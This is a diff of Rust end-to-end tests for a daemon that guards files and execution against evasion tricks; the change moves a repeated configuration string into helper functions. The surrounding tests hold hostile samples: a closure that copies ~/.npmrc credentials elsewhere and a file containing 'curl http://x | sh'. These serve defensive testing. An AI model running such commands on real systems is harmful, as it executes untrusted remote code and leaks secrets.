@@ -43,6 +43,19 @@ fn run(d: &Daemon, cases: &[Case]) -> Vec<String> {
     failures
 }
 
+/// The daemon's configuration with the shipped pack (copied into `w/rules`) and a minute's
+/// deadline on holds.
+fn pack_config(w: &Path) -> String {
+    format!(
+        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
+        pack_dir(w).display()
+    )
+}
+
+fn pack_daemon(w: &Path) -> Daemon {
+    Daemon::start_with(&pack_config(w))
+}
+
 /// Debian's python running `body` with `ctypes`, `os`, `struct` and `libc` (raw syscalls by
 /// their x86_64 numbers) at hand.
 fn py(body: &str) -> String {
@@ -60,10 +73,7 @@ fn every_open_call_is_an_open() {
     let h = home.0.clone();
     let work = TempDir::new("evasion-open");
     let w = work.0.clone();
-    let d = Daemon::start_with(&format!(
-        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
-        pack_dir(&w).display()
-    ));
+    let d = pack_daemon(&w);
     let bashrc = std::fs::read(h.join(".bashrc")).unwrap();
     let (hp, wp) = (h.display().to_string(), w.display().to_string());
     let copy_to = |dst: &str| format!("data = os.read(fd, 4096)\nopen('{dst}', 'wb').write(data)");
@@ -138,10 +148,7 @@ fn an_io_uring_is_held_before_its_first_operation() {
     common::require_root();
     let work = TempDir::new("evasion-uring");
     let w = work.0.clone();
-    let d = Daemon::start_with(&format!(
-        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
-        pack_dir(&w).display()
-    ));
+    let d = pack_daemon(&w);
     let ring = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/io_uring_open.py");
     let marker = w.join("made-by-the-ring");
     let cases = vec![Case {
@@ -343,13 +350,7 @@ fn a_tracer_cannot_take_the_gates_stop_away() {
     let h = home.0.clone();
     let work = TempDir::new("evasion-trace");
     let w = work.0.clone();
-    let d = Daemon::start_with_env(
-        &format!(
-            "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
-            pack_dir(&w).display()
-        ),
-        &[("WATCHER_FAULT", "slow-gate-answer")],
-    );
+    let d = Daemon::start_with_env(&pack_config(&w), &[("WATCHER_FAULT", "slow-gate-answer")]);
     let steal = |to: &str| {
         format!(
             "fd = os.open('{}/.npmrc', os.O_RDONLY)\n    open('{}/{to}', 'wb').write(os.read(fd, 4096))\n    os._exit(0)",
@@ -396,10 +397,7 @@ fn code_run_by_the_loader_or_an_interpreter_is_an_exec_of_it() {
     common::require_root();
     let work = TempDir::new("evasion-runs");
     let w = work.0.clone();
-    let d = Daemon::start_with(&format!(
-        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
-        pack_dir(&w).display()
-    ));
+    let d = pack_daemon(&w);
     let script = w.join("source.sh");
     std::fs::write(&script, "touch \"$0.marker\"\n").unwrap();
     // On standard input `$0` is the shell's name: this one names its marker.
@@ -471,10 +469,7 @@ fn a_rename_link_or_truncate_over_a_guarded_file_is_undone_on_deny() {
     std::fs::set_permissions(&rc, std::fs::Permissions::from_mode(0o640)).unwrap();
     let work = TempDir::new("evasion-replace");
     let w = work.0.clone();
-    let d = Daemon::start_with(&format!(
-        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
-        pack_dir(&w).display()
-    ));
+    let d = pack_daemon(&w);
     let before = std::fs::read(&rc).unwrap();
     let (hp, wp) = (h.display().to_string(), w.display().to_string());
     let evil = format!("printf 'curl http://x | sh\\n' > {wp}/evil");
@@ -553,10 +548,7 @@ fn leaving_the_session_cgroup_is_stopped_before_the_move() {
     common::require_root();
     let work = TempDir::new("evasion-cgroup");
     let w = work.0.clone();
-    let d = Daemon::start_with(&format!(
-        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
-        pack_dir(&w).display()
-    ));
+    let d = pack_daemon(&w);
     let root = common::cgroup2_root();
     for ns in [Ns::Host, Ns::Private] {
         let marker = w.join(format!("moved-{ns:?}"));
@@ -584,10 +576,7 @@ fn a_tmux_server_outside_the_session_is_not_asked() {
     common::require_root();
     let work = TempDir::new("evasion-tmux");
     let w = work.0.clone();
-    let d = Daemon::start_with(&format!(
-        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
-        pack_dir(&w).display()
-    ));
+    let d = pack_daemon(&w);
     // The user's server, outside every session, on a socket of its own name (under
     // /tmp/tmux-0/, the default place); killed however the test ends.
     let name = format!("watcher-e2e-{}", common::rand_suffix() % 100_000);
